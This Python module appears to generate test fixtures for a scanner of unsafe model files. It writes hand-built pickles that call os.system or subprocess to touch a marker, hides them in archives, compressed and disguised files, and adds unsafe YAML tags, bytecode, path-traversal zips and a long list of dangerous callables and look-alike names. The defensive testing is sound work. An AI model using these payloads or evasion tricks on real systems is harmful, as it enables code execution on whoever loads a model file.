"""Files that do harm when they are loaded, in every way that is known here; none is ever loaded.

Each payload would touch a marker file. Building them calls nothing of theirs: pickles are written
instruction by instruction.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import marshal
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import numpy as np

Files = dict[str, bytes]
"""Contents by the name of the file."""


def text(value: str) -> bytes:
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def imported(module: str, name: str) -> bytes:
    """STACK_GLOBAL: the names are values like any other."""
    return text(module) + text(name) + b"\x93"


def called(module: str, name: str, *arguments: str) -> bytes:
    """A pickle that calls `module.name(*arguments)`."""
    given = b"(" + b"".join(map(text, arguments)) + b"t"
    return b"\x80\x04" + imported(module, name) + given + b"R."


def evil(marker: Path) -> bytes:
    return called("os", "system", f"touch {marker}")


def instructions(marker: Path) -> Files:
    """Every instruction that imports or calls."""
    touch = f"touch {marker}"
    system = b"cos\nsystem\n"
    line = touch.encode()
    bare = b"cos\nsystem\n(S'" + line + b"'\ntR."
    return {
        "reduce-0.pkl": b"cos\nsystem\n(S'" + line + b"'\ntR.",
        "reduce-1.pkl": b"cos\nsystem\nq\x00(U" + bytes([len(line)]) + line + b"tq\x01Rq\x02.",
        "reduce-2.pkl": b"\x80\x02" + system + text(touch) + b"\x85R.",
        "reduce-4.pkl": evil(marker),
        "stack-global-framed.pkl": b"\x80\x05\x95" + struct.pack("<Q", 999) + evil(marker)[2:],
        "inst.pkl": b"(S'" + line + b"'\nios\nsystem\n.",
        "obj.pkl": b"(cos\nsystem\nS'" + line + b"'\no.",
        "newobj.pkl": b"\x80\x02csubprocess\nPopen\n" + text(touch) + b"\x85\x81.",
        "newobj-ex.pkl": b"\x80\x04" + imported("subprocess", "Popen") + text(touch)
        + b"\x85}" + text("shell") + b"\x88s\x92.",
        "build-setstate.pkl": b"\x80\x02cargparse\nNamespace\n)\x81}" + text("__setstate__")
        + system + b"sb" + text(touch) + b"b.",
        "build-class.pkl": b"\x80\x02cargparse\nNamespace\nN}" + text("__eq__") + b"Ns\x86b.",
        "memo.pkl": b"\x80\x04" + text("system") + b"q\x07" + text("os") + b"q\x00N0h\x00h\x07\x93"
        + text(touch) + b"\x85R.",
        "memo-overwritten.pkl": b"\x80\x04" + text("torch") + b"q\x00" + text("os") + b"q\x00h\x00"
        + text("system") + b"\x93" + text(touch) + b"\x85R.",
        "popped.pkl": b"\x80\x02N" + system + text(touch) + b"\x85R0.",
        "extension.pkl": b"\x80\x02\x82\x07" + text(touch) + b"\x85R.",
        "computed-name.pkl": b"\x80\x04cbuiltins\nstr\n" + text("os") + b"\x85R" + text("system")
        + b"\x93" + text(touch) + b"\x85R.",
        "persistent-id.pkl": b"\x80\x02" + system + text(touch) + b"\x85RQ.",
        "number-in-hex.pkl": b"I0x1F\n0" + bare,
        "long-in-hex.txt": b"L0x1FL\n0" + bare,
        "number-and-zero.pkl": b"I1\0junk\n0" + bare,
        "memo-and-zero.pkl": b"Np0\0junk\ng0\0\n00" + bare,
        "text-in-latin-1.pkl": b"S'\xe9'\n0" + bare,
        "set-item.pkl": b"\x80\x02}" + text("a") + system + text(touch) + b"\x85Rs.",
        "in-a-list.pkl": b"\x80\x02](N" + system + text(touch) + b"\x85Re.",
        "buffers.pkl": b"\x80\x05\x97\x98" + system + text(touch) + b"\x85R.",
    }  # fmt: skip


def places(marker: Path) -> Files:
    """Where a pickle can stand."""
    bad, good = evil(marker), pickle.dumps({"weights": [1.0, 2.0]})
    ascii_pickle = f"cos\nsystem\n(S'touch {marker}'\ntR.".encode()
    return {
        "second-stream.pkl": good + bad,
        "after-stop.pkl": good + b"\0\0\0" + bad,
        "after-many.pkl": good * 500 + bad,
        "truncated-tail.pkl": bad[:-1] + b"\xff\xff",
        "cut-off.pkl": bad[:-1],
        "odd-extension.txt": bad,
        "no-extension": bad,
        "picture.png": bad,
        "weights.safetensors": bad,
        "README.md": ascii_pickle,
        "labels.json": ascii_pickle + b"\n# and so on\n",
        "broken.bin": b"\x80\x63" + bad,
        "data.csv": b"N." + ascii_pickle,
        "long-value.pkl": b"\x80\x04B" + struct.pack("<I", 1 << 21) + bytes(1 << 21) + b"0"
        + bad[2:],
    }  # fmt: skip


# What runs a text, a file or a program, or reaches for something by its name.
CALLS = [
    ("builtins", "eval"), ("builtins", "exec"), ("builtins", "compile"), ("builtins", "getattr"),
    ("builtins", "__import__"), ("builtins", "open"), ("builtins", "map"), ("__builtin__", "execfile"),
    ("builtins", "breakpoint"), ("builtins", "type"), ("io", "open"), ("_io", "FileIO"),
    ("posix", "system"), ("nt", "system"), ("os", "execv"), ("os", "popen"), ("pty", "spawn"),
    ("subprocess", "check_output"), ("commands", "getoutput"), ("importlib", "import_module"),
    ("importlib._bootstrap", "_load"), ("importlib.util", "spec_from_file_location"),
    ("runpy", "run_path"), ("runpy", "_run_code"), ("timeit", "timeit"), ("timeit", "main"),
    ("cProfile", "run"), ("cProfile", "runctx"), ("profile", "run"), ("pydoc", "pipepager"),
    ("pydoc", "locate"), ("doctest", "debug_script"), ("trace", "Trace"), ("bdb", "Bdb"),
    ("pdb", "run"), ("code", "InteractiveInterpreter"), ("codeop", "compile_command"),
    ("asyncio", "create_subprocess_shell"), ("asyncio.unix_events", "_UnixSubprocessTransport"),
    ("multiprocessing.util", "spawnv_passfds"), ("multiprocessing", "Process"),
    ("concurrent.futures", "ProcessPoolExecutor"), ("threading", "Thread"), ("sched", "scheduler"),
    ("ctypes", "CDLL"), ("_ctypes", "dlopen"), ("cffi", "FFI"), ("marshal", "loads"),
    ("pickle", "loads"), ("_pickle", "loads"), ("shelve", "open"), ("types", "FunctionType"),
    ("types", "CodeType"), ("types", "MethodType"), ("functools", "partial"),
    ("functools", "reduce"), ("operator", "attrgetter"), ("operator", "methodcaller"),
    ("_operator", "methodcaller"), ("itertools", "starmap"), ("copyreg", "__newobj__"),
    ("sys", "settrace"), ("sys", "setprofile"), ("signal", "signal"), ("atexit", "register"),
    ("weakref", "finalize"), ("gc", "get_objects"), ("inspect", "getattr_static"),
    ("site", "execsitecustomize"), ("webbrowser", "open"), ("socket", "create_connection"),
    ("urllib.request", "urlretrieve"), ("http.client", "HTTPSConnection"), ("ftplib", "FTP"),
    ("smtplib", "SMTP"), ("shutil", "rmtree"), ("tempfile", "mktemp"), ("linecache", "updatecache"),
    ("logging.config", "_resolve"), ("logging", "FileHandler"), ("unittest.mock", "_importer"),
    ("xmlrpc.client", "ServerProxy"), ("sqlite3", "connect"), ("zipimport", "zipimporter"),
    ("pip", "main"), ("pip._internal", "main"), ("setuptools.sandbox", "run_setup"),
    ("distutils.file_util", "write_file"), ("lib2to3.pgen2.pgen", "ParserGenerator"),
    ("idlelib.pyshell", "ModifiedInterpreter"), ("ensurepip", "_run_pip"), ("venv", "main"),
    ("numpy", "load"), ("numpy", "fromfile"), ("numpy", "memmap"), ("numpy", "vectorize"),
    ("numpy._core", "_ufunc_reconstruct"), ("numpy.f2py.crackfortran", "myeval"),
    ("numpy.testing._private.utils", "runstring"), ("numpy.distutils.exec_command", "exec_command"),
    ("scipy.stats._continuous_distns", "norm_gen"), ("scipy.io", "loadmat"),
    ("joblib", "load"), ("joblib.numpy_pickle_compat", "NDArrayWrapper"), ("joblib", "Parallel"),
    ("sklearn.utils.estimator_checks", "check_estimator"), ("sklearn.datasets", "fetch_openml"),
    ("pandas", "eval"), ("pandas", "read_pickle"), ("sympy", "sympify"), ("yaml", "unsafe_load"),
    ("torch", "load"), ("torch.hub", "load"), ("torch.serialization", "load"),
    ("torch.storage", "_load_from_bytes"), ("torch.jit", "load"), ("torch._dynamo", "compile"),
    ("torch.fx.graph_module", "_forward_from_src"), ("torch.fx._symbolic_trace", "wrap"),
    ("torch.ops", "load_library"), ("torch.utils.cpp_extension", "load"),
    ("torch.utils.model_zoo", "load_url"), ("torch.utils.data.datapipes.utils.decoder", "basichandlers"),
    ("torch.multiprocessing.spawn", "spawn"), ("torch.distributed.run", "main"),
    ("torch.utils._config_module", "load_config"), ("torch.nn.parallel", "DataParallel"),
    ("torch.optim.lr_scheduler", "LambdaLR"), ("torch.nn.modules.module", "register_module_forward_hook"),
    ("dill._dill", "_create_function"), ("dill", "loads"), ("dill._dill", "_import_module"),
    ("cloudpickle.cloudpickle", "_make_function"), ("cloudpickle.cloudpickle", "_builtin_type"),
    ("tensorflow", "io"), ("keras.models", "load_model"), ("transformers", "pipeline"),
]  # fmt: skip

# Names that only look like allowed ones, ways through allowed modules, and the publisher's own.
NAMES = [
    ("torch", "os.system"), ("torch.nn.modules.module", "torch.os.system"), ("torch.os", "system"),
    ("collections", "abc.sys.modules"), ("collections.OrderedDict", "fromkeys"),
    ("builtins", "dict.get"), ("builtins", "str.format"), ("numpy", "os.system"),
    ("numpy.core.multiarray.sys", "modules"), ("torch._utils", "_rebuild_tensor_v2.__globals__"),
    ("o\u0455", "system"), ("\u0442orch", "Size"), ("torch ", "Size"), ("torch", "Size "),
    ("torch\u200b", "Size"), ("TORCH", "Size"), ("", "eval"), ("torch", ""), ("evil", "payload"),
    ("torch.nn.modules.linear.evil", "Linear"), ("sklearn.evil", "Estimator"), ("__main__", "Net"),
]  # fmt: skip


def calls(marker: Path) -> Files:
    """One pickle for each function that no list allows."""
    return named(CALLS, marker)


def names(marker: Path) -> Files:
    """One pickle for each name that should not be believed."""
    return named(NAMES, marker)


def named(pairs: list[tuple[str, str]], marker: Path) -> Files:
    """A pickle that calls each pair of module and name, in two ways of writing it."""
    found: Files = {}
    for number, (module, name) in enumerate(pairs):
        stem = f"{number:03}-{module.replace(' ', '_')}-{name.replace(' ', '_')}".encode(
            "ascii", "replace"
        )
        file = f"{stem.decode().replace('?', 'x')}.pkl"
        if number % 2 and module.isascii() and name:
            found[file] = f"c{module}\n{name}\n(S'touch {marker}'\ntR.".encode()
        else:
            found[file] = called(module, name, f"touch {marker}")
    return found


def zipped(members: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
    """A zip archive whose members all have the same date."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", compression) as archive:
        for name, content in members.items():
            archive.writestr(zipfile.ZipInfo(name), content, compression)
    return target.getvalue()


def archives(marker: Path) -> Files:
    """Archives, and what can be wrong with them."""
    bad = evil(marker)
    plain = zipped({"archive/data.pkl": bad, "archive/version": b"3\n"})
    clean = zipped({"archive/data.pkl": pickle.dumps([1], 2), "archive/version": b"3\n"})
    crc = struct.pack("<I", zlib.crc32(bad))
    renamed = clean.replace(b"archive/data.pkl", b"archive/safe.pkl", 1)
    encrypted = bytearray(clean)
    encrypted[6] |= 1
    encrypted[clean.index(b"PK\x01\x02") + 8] |= 1
    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w") as archive:
        info = tarfile.TarInfo("pickle")
        info.size = len(bad)
        archive.addfile(info, io.BytesIO(bad))
    return {
        "model.pt": plain,
        "other-member.pt": zipped({"a/data.pkl": pickle.dumps([1], 2), "a/extra/x.dat": bad}),
        "in-a-storage.pt": zipped({"a/data.pkl": pickle.dumps([1], 2), "a/data/0": bad}),
        "deflated.pt": zipped({"a/data.pkl": bad}, zipfile.ZIP_DEFLATED),
        "bzip2.zip": zipped({"a/data.pkl": bad}, zipfile.ZIP_BZIP2),
        "lzma.zip": zipped({"a/data.pkl": bad}, zipfile.ZIP_LZMA),
        "nested.zip": zipped({"inner.zip": plain}),
        "nested-twice.pt": zipped(
            {"a/data.pkl": pickle.dumps([1], 2), "a/x": zipped({"y": plain})}
        ),
        "wrong-crc.pt": plain.replace(crc, b"\1\2\3\4"),
        "wrong-crc-of-good.zip": clean.replace(struct.pack("<I", zlib.crc32(b"3\n")), b"\1\2\3\4"),
        "renamed-in-header.zip": renamed,
        "prepended.zip": b"#!/bin/sh\n" + clean,
        "appended.zip": clean + bad,
        "comment.zip": clean[:-2] + struct.pack("<H", len(bad)) + bad,
        "encrypted.zip": bytes(encrypted),
        "between.zip": b"PK\x03\x04" + bad + clean,
        "climbing.zip": zipped({"../../etc/profile": b"x"}),
        "folder-with-content.zip": zipped({"a/data.pkl/": bad}),
        "second-name.zip": zipped({"a/data.pkl\0x": bad}),
        "no-name.zip": zipped({"": bad}),
        "size-hidden.zip": clean[:18] + bytes(8) + clean[26:],
        "behind-a-picture.png": b"\x89PNG\r\n\x1a\n" + bytes(64) + plain,
        "archive.tar": tar.getvalue(),
        "tar-in-disguise.bin": tar.getvalue(),
        "7z-in-disguise.pt": b"7z\xbc\xaf\x27\x1c\0\4" + bad,
        "rar.pkl": b"Rar!\x1a\x07\x01\0" + bad,
        "zstandard.pkl": b"\x28\xb5\x2f\xfd\x04\0" + bad,
        "cut-off.zip": plain[:-10],
    }


def compressed(marker: Path) -> Files:
    """What `joblib.load` unpacks by itself."""
    bad = evil(marker)
    return {
        "zlib.joblib": zlib.compress(bad),
        "gzip.joblib": gzip.compress(bad),
        "bzip2.joblib": bz2.compress(bad),
        "xz.joblib": lzma.compress(bad),
        "lzma.joblib": lzma.compress(bad, lzma.FORMAT_ALONE),
        "lz4.joblib": b"\x04\x22\x4d\x18\x64\x40\xa7" + bad,
        "twice.gz": gzip.compress(zlib.compress(bad)),
        "appended.gz": gzip.compress(pickle.dumps([1])) + bad,
        "cut-off.gz": gzip.compress(bad + bytes(99))[:-12],
        "archive.gz": gzip.compress(zipped({"a/data.pkl": bad})),
    }


def arrays(marker: Path) -> Files:
    """Arrays of objects, which are pickles, and joblib's arrays between instructions."""
    bad = evil(marker)
    start = io.BytesIO()
    header = {"descr": "|O", "fortran_order": False, "shape": (1,)}
    np.lib.format.write_array_header_1_0(start, header)
    objects = start.getvalue() + bad
    numbers = io.BytesIO()
    np.save(numbers, np.arange(4.0))
    dtype = (
        b"cnumpy\ndtype\n"
        + text("u1")
        + b"\x89\x88\x87R(K\x03"
        + text("|")
        + b"NNNJ\xff\xff\xff\xff"
    )
    dtype += b"J\xff\xff\xff\xffK\0tb"
    pieces = {"shape": b"K" + bytes([len(bad)]) + b"\x85", "order": text("C"), "dtype": dtype}
    state = b"}" + b"".join(text(name) + value + b"s" for name, value in pieces.items())
    wrapper = b"\x80\x04cjoblib.numpy_pickle\nNumpyArrayWrapper\n"
    return {
        "objects.npy": objects,
        "objects.npz": zipped({"w.npy": numbers.getvalue(), "o.npy": objects}),
        "packed-objects.npz": zipped({"o.npy": objects}, zipfile.ZIP_DEFLATED),
        "appended.npy": numbers.getvalue() + bad,
        "pickle-in.npz": zipped({"w.npy": numbers.getvalue(), "o.npy": bad}),
        "joblib-array.pkl": wrapper + b")\x81" + state + b"b" + bad + b"0" + bad[2:],
        "joblib-array-run-by-pickle.pkl": wrapper + b")\x81" + state + b"b" + bad + b".",
        "joblib-array-made-otherwise.pkl": b"\x80\x04ccopyreg\n_reconstructor\n" + wrapper[2:]
        + b"cbuiltins\nobject\nN\x87R" + state + b"b" + bad + b".",
    }  # fmt: skip


def code(marker: Path) -> Files:
    """Machine code, byte code, and other formats that run something."""
    module = compile(f"import os; os.system('touch {marker}')", "x", "exec")
    layer = {"class_name": "Lambda", "config": {"function": ["4wEAAAAAAAAA", None, None]}}
    config = {"class_name": "Sequential", "config": {"layers": [layer]}, "module": "keras"}
    windows = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(99)
    yaml = f"!!python/object/apply:os.system ['touch {marker}']"
    return {
        "module.pyc": b"\xa7\r\r\n" + bytes(12) + marshal.dumps(module),
        "hidden.dat": b"\xa7\r\r\n" + bytes(12) + marshal.dumps(module),
        "op.so": b"\x7fELF\x02\x01\x01" + bytes(99),
        "weights.bin": b"\x7fELF\x02\x01\x01" + bytes(99),
        "op.dll": windows,
        "model.dat": windows,
        "op.dylib": b"\xcf\xfa\xed\xfe" + bytes(99),
        "op.wasm": b"\0asm\1\0\0\0",
        "stripped.so": b"\0\0\0\0" * 9,
        "library-in-archive.zip": zipped({"lib/op.so": b"\x7fELF\x02\x01\x01" + bytes(99)}),
        "config.yaml": yaml.encode(),
        "config.cfg": b"a: 1\nb: " + yaml.encode(),
        "prefix.yaml": b"%TAG !p! tag:yaml.org,2002:py\n---\n!p!thon/object/apply:os.system ['x']",
        "escaped.yaml": b"a: !!%70ython/object/apply:os.system ['x']",
        "wide.yaml": yaml.encode("utf-16"),
        "model.keras": zipped(
            {
                "metadata.json": b'{"keras_version": "3.9.0"}',
                "config.json": json.dumps(config).encode(),
                "model.weights.h5": b"\x89HDF\r\n\x1a\n" + bytes(99),
            }
        ),
        "model.h5": b"\x89HDF\r\n\x1a\n" + bytes(99) + json.dumps(config).encode(),
        "unknown.dat": bytes(range(256)) * 4,
        "nearly-text.txt": b"labels\n\0\n",
    }


KINDS: dict[str, Callable[[Path], Files]] = {
    "instructions": instructions,
    "places": places,
    "calls": calls,
    "names": names,
    "archives": archives,
    "compressed": compressed,
    "arrays": arrays,
    "code": code,
}


def write(folder: Path, marker: Path) -> list[Path]:
    """Write every file, a folder for each kind; none is run."""
    written = []
    for kind, build in KINDS.items():
        for name, content in build(marker).items():
            path = folder / kind / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(content)
            written.append(path)
    return written
